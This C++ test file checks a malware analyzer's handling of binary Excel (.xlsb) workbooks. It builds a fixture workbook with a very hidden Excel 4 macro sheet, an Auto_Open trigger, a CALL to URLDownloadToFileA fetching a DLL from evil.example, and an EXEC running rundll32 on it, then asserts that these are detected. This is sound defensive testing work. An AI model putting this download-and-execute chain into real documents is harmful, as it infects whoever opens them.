// OoxmlAnalyzer on .xlsb packages written by the test ([MS-XLSB] parts from
// xlsb_test_builder.h inside ooxml_fixture.h packages): macro sheets named and hidden by
// workbook.bin, their BIFF12 formulas decoded, auto-open names and EXEC/CALL findings; and the
// real sample of the shared corpus.
#include <gtest/gtest.h>

#include <filesystem>
#include <set>

#include "analyzers/ooxml/ooxml_analyzer.h"
#include "analyzers/ooxml/ooxml_fixture.h"
#include "core/testing/recording_context.h"
#include "engine/config.h"
#include "engine/scan.h"
#include "formats/xls/xlsb_test_builder.h"

namespace lg {
namespace {

using lg::testing::biff12_record;
using lg::testing::cat;
using lg::testing::Ptg12;
using lg::testing::RecordingContext;
using ooxml::testing::Docx;
using ooxml::testing::rels_xml;

RecordingContext run(const Bytes& bytes) {
  RecordingContext ctx;
  OoxmlAnalyzer a;
  EXPECT_TRUE(a.analyze(bytes, ctx).is_ok());
  return ctx;
}

std::string str(const Bytes& b) { return std::string(as_chars(b)); }

// Sheet1 (a worksheet) and Kx (a very hidden macro sheet related as xlMacrosheet, at a part
// name outside xl/macrosheets/), Auto_Open pointing at Kx!A1.
Docx xlsb(std::uint32_t kx_state = 2) {
  Docx d;
  d.parts.clear();
  d.main_type = "application/vnd.ms-excel.sheet.binary.macroEnabled.main";
  d.parts.emplace_back("_rels/.rels", rels_xml({{"rId1", "officeDocument", "xl/workbook.bin"}}));
  d.extra_overrides =
      "<Override PartName=\"/xl/workbook.bin\" "
      "ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/>";
  d.add("xl/_rels/workbook.bin.rels",
        rels_xml({{"rId1", "worksheet", "worksheets/sheet1.bin"},
                  {"rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                   "sheets/k.bin"},
                  {"rId3", "sharedStrings", "sharedStrings.bin"}}));
  d.add("xl/workbook.bin",
        str(cat({biff12_record(131, {}), testing::xlsb_sheet(0, 1, "rId1", "Sheet1"),
                 testing::xlsb_sheet(kx_state, 2, "rId2", "Kx"), testing::xlsb_externals(2),
                 testing::xlsb_name("Auto_Open", Ptg12::ref3d(1, 0, 0), true),
                 biff12_record(132, {})})));
  d.add("xl/worksheets/sheet1.bin",
        str(cat({biff12_record(129, {}), testing::xlsb_row(0),
                 testing::xlsb_formula(0, cat({Ptg12::str("not a macro"), Ptg12::funcvar(1, 110)})),
                 biff12_record(130, {})})));
  d.add("xl/sharedStrings.bin", str(testing::xlsb_shared_strings({"http://evil.example/a.dll"})));
  d.add("xl/sheets/k.bin",
        str(cat({biff12_record(129, {}), testing::xlsb_row(0),
                 testing::xlsb_formula(
                     0, cat({Ptg12::str("urlmon"), Ptg12::str("URLDownloadToFileA"),
                             Ptg12::str("JJCCJJ"), Ptg12::integer(0), Ptg12::ref(1, 0),
                             Ptg12::str("C:\\Users\\Public\\a.dll"), Ptg12::integer(0),
                             Ptg12::integer(0), Ptg12::funcvar(8, 150)})),
                 testing::xlsb_formula(1,
                                       cat({Ptg12::str("cmd /c "), Ptg12::ref(1, 2),
                                            testing::Ptg::op(0x08), Ptg12::funcvar(1, 110)}),
                                       "cmd /c rundll32 a.dll"),
                 testing::xlsb_row(1), testing::xlsb_sst_cell(0, 0),
                 testing::xlsb_text_cell(2, "rundll32 C:\\Users\\Public\\a.dll,Start"),
                 biff12_record(130, {})})));
  return d;
}

TEST(XlsbAnalyzer, HiddenMacroSheetAutoOpenAndCalls) {
  RecordingContext ctx = run(xlsb().build());
  EXPECT_TRUE(ctx.has(Symbol::XLM_MACRO_SHEET));
  EXPECT_TRUE(ctx.has(Symbol::XLM_VERY_HIDDEN_SHEET));
  EXPECT_FALSE(ctx.has(Symbol::XLM_HIDDEN_SHEET));
  EXPECT_TRUE(ctx.has(Symbol::XLM_AUTO_OPEN));
  EXPECT_TRUE(ctx.has(Symbol::XLM_EXECUTE));
  const std::string text = ctx.all_text(TextKind::kMacro);
  EXPECT_NE(text.find("Name Auto_Open: =Kx!$A$1"), std::string::npos) << text;
  EXPECT_NE(text.find("Kx!A1: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,$A$2,"
                      "\"C:\\Users\\Public\\a.dll\",0,0)"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("Kx!B1: =EXEC(\"cmd /c \"&$C$2) -> cmd /c rundll32 a.dll"), std::string::npos)
      << text;
  EXPECT_NE(text.find("Kx!A2: http://evil.example/a.dll"), std::string::npos) << text;
  EXPECT_NE(text.find("Kx!C2: rundll32 C:\\Users\\Public\\a.dll,Start"), std::string::npos);
  // The worksheet's formula is not a macro.
  EXPECT_EQ(text.find("not a macro"), std::string::npos);
  bool call = false, exec = false;
  for (const auto& f : ctx.findings) {
    if (f.symbol != Symbol::XLM_EXECUTE) continue;
    call |= f.evidence.detail == "CALL calls a DLL function (Win32 API urldownloadtofile)";
    exec |= f.evidence.value.starts_with("Kx!B1: =EXEC(");
  }
  EXPECT_TRUE(call);
  EXPECT_TRUE(exec);
  const auto& sheets = std::get<std::vector<std::string>>(ctx.facts.at("xlm_macro_sheets"));
  EXPECT_EQ(sheets, (std::vector<std::string>{"Kx (very hidden)"}));
}

TEST(XlsbAnalyzer, HiddenStateAndNoAutoOpenWithoutMacroSheet) {
  RecordingContext ctx = run(xlsb(1).build());
  EXPECT_TRUE(ctx.has(Symbol::XLM_HIDDEN_SHEET));
  Docx plain = xlsb();
  std::erase_if(plain.parts, [](const auto& p) { return p.first == "xl/sheets/k.bin"; });
  RecordingContext none = run(plain.build());
  EXPECT_FALSE(none.has(Symbol::XLM_MACRO_SHEET));
  EXPECT_FALSE(none.has(Symbol::XLM_AUTO_OPEN));
}

TEST(XlsbAnalyzer, DamagedBinaryPartsAreAnomalies) {
  Docx d = xlsb();
  for (auto& [name, content] : d.parts)
    if (name == "xl/workbook.bin" || name == "xl/sheets/k.bin") content.resize(content.size() / 2);
  RecordingContext ctx = run(d.build());
  EXPECT_TRUE(ctx.has(Symbol::XLM_MACRO_SHEET));
  EXPECT_FALSE(ctx.anomalies.empty());
}

TEST(XlsbAnalyzer, CorpusSampleFormulasDecoded) {
  const std::string path = LG_SHARED_DIR "/corpus/office/excel4-macros/excel4_sample_macro.xlsb";
  if (!std::filesystem::exists(path)) GTEST_SKIP() << "no shared corpus";
  const std::string data = lg::testing::read_file(path);
  RecordingContext ctx = run(Bytes(data.begin(), data.end()));
  const std::string text = ctx.all_text(TextKind::kMacro);
  EXPECT_NE(text.find("Name Auto_Open: =Macro1!$A$1"), std::string::npos) << text;
  EXPECT_NE(text.find("Macro1!A1: =ALERT(\"This is a sample Excel 4 macro\")"), std::string::npos)
      << text;
  EXPECT_NE(text.find("Macro1!A2: =HALT()"), std::string::npos) << text;
  EXPECT_TRUE(ctx.has(Symbol::XLM_AUTO_OPEN));
  const auto& sheets = std::get<std::vector<std::string>>(ctx.facts.at("xlm_macro_sheets"));
  EXPECT_EQ(sheets, (std::vector<std::string>{"Macro1 (visible)"}));
}

// End to end: the URL held by a shared-string constant of the macro sheet (the download
// source the CALL formula points to) becomes an observable.
TEST(XlsbAnalyzer, PayloadStringsBecomeObservables) {
  const Bytes bytes = xlsb().build();
  Config config = default_config();
  TextScanner scanner;
  Report report;
  Scan scan(config, scanner, report);
  scan.run("invoice.xlsb", bytes);
  bool url = false;
  for (const auto& u : report.observables.urls) url |= u.host == "evil.example";
  EXPECT_TRUE(url);
  std::set<std::string> symbols;
  for (const auto& f : report.findings) symbols.insert(f.symbol);
  EXPECT_TRUE(symbols.count("XLM_EXECUTE"));
}

}  // namespace
}  // namespace lg
